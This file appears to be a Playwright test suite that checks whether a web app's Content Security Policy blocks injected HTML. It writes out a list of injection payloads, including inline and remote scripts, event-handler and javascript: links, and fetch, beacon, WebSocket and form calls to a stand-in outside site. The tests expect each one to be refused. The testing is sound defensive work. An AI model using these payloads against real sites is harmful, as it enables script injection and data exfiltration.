"""Suppose that somebody gets HTML into a page after all: what the page's policy still refuses."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.support.browser.looks import WAIT
from tests.support.elsewhere import OtherSite, other_site
from tests.support.running_app import coordinator_cookie

#: A page of each kind: of the app, of our own, and one that says a thing only.
PAGES = {"app": "/", "own": "/go", "message": "/nowhere/at/all"}

#: Each way in or out, tried on a page. What holds its HTML back even earlier is as good.
ATTACKS: dict[str, str] = {
    "a script": "const e = document.createElement('script'); e.textContent = 'window.got = 1';"
    "document.body.append(e)",
    "a script from elsewhere": "const e = document.createElement('script');"
    "e.src = other + '/script.js'; document.body.append(e)",
    "a script from a text": "const e = document.createElement('script');"
    "e.src = 'data:text/javascript,window.got=1'; document.body.append(e)",
    "a handler in HTML": "document.body.insertAdjacentHTML('beforeend',"
    "'<img src=data:, onerror=\"window.got = 1\">')",
    "a handler in an attribute": "const e = document.createElement('button');"
    "e.setAttribute('onclick', 'window.got = 1'); document.body.append(e); e.click()",
    "a link that is a script": "const e = document.createElement('a');"
    "e.href = 'javascript:window.got=1'; document.body.append(e); e.click()",
    "a text that is run": "setTimeout('window.got = 1')",
    "a picture": "new Image().src = other + '/picture.png'",
    "a style sheet": "const e = document.createElement('link'); e.rel = 'stylesheet';"
    "e.href = other + '/styles.css'; document.head.append(e)",
    "a style": "const e = document.createElement('style'); e.textContent ="
    "'body { background: url(' + other + '/background.png) }'; document.head.append(e)",
    "a request": "fetch(other + '/fetch').catch(() => {})",
    "a beacon": "navigator.sendBeacon(other + '/beacon', 'x')",
    "a websocket": "new WebSocket(other.replace('http', 'ws') + '/socket')",
    "a frame": "const e = document.createElement('iframe'); e.src = other + '/frame';"
    "document.body.append(e)",
    "an object": "const e = document.createElement('object'); e.data = other + '/object';"
    "document.body.append(e)",
    "a worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + other + '/worker\")'])))",
    "a form": "const e = document.createElement('form'); e.action = other + '/form';"
    "e.method = 'post'; document.body.append(e); e.submit()",
    "another base": "const e = document.createElement('base'); e.href = other;"
    "document.head.append(e); if (document.baseURI.startsWith(other)) window.got = 1",
}
#: Tries one, and waits until it is refused; says by whom.
TRY = """async other => {
    const refused = new Promise(done => addEventListener('securitypolicyviolation',
        event => done(event.effectiveDirective), {once: true, capture: true}));
    const never = new Promise(done => setTimeout(done, 20000));
    try { ATTACK } catch (error) { return String(error); }
    return Promise.race([refused, never]);
}"""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[OtherSite]:
    with other_site() as site:
        yield site


@pytest.fixture(scope="module")
def visitor(browser: Browser, address: str) -> Iterator[BrowserContext]:
    with browser.new_context(base_url=address) as context:
        context.add_cookies([coordinator_cookie(address)])
        yield context


def opened(context: BrowserContext, place: str) -> Page:
    page = context.new_page()
    page.goto(place)
    expect(page.get_by_role("heading", level=1)).to_be_visible(timeout=WAIT)
    return page


@pytest.mark.parametrize("kind", PAGES)
def test_what_gets_into_a_page_neither_runs_nor_reaches_anybody(
    visitor: BrowserContext, elsewhere: OtherSite, kind: str
) -> None:
    page = opened(visitor, PAGES[kind])
    before = page.url
    for name, attack in ATTACKS.items():
        assert page.evaluate(TRY.replace("ATTACK", attack), elsewhere.address), name
    assert page.evaluate("window.got") is None
    assert page.url == before and elsewhere.asked == []
    page.close()


@pytest.mark.parametrize("kind", PAGES)
def test_no_page_of_another_site_can_frame_one(
    visitor: BrowserContext, elsewhere: OtherSite, address: str, kind: str
) -> None:
    page = visitor.new_page()
    elsewhere.page = f'<!doctype html><iframe src="{address}{PAGES[kind]}"></iframe>'
    page.goto(elsewhere.address)
    assert page.frames[1].url.startswith("chrome-error:")
    page.close()
    elsewhere.asked.clear()
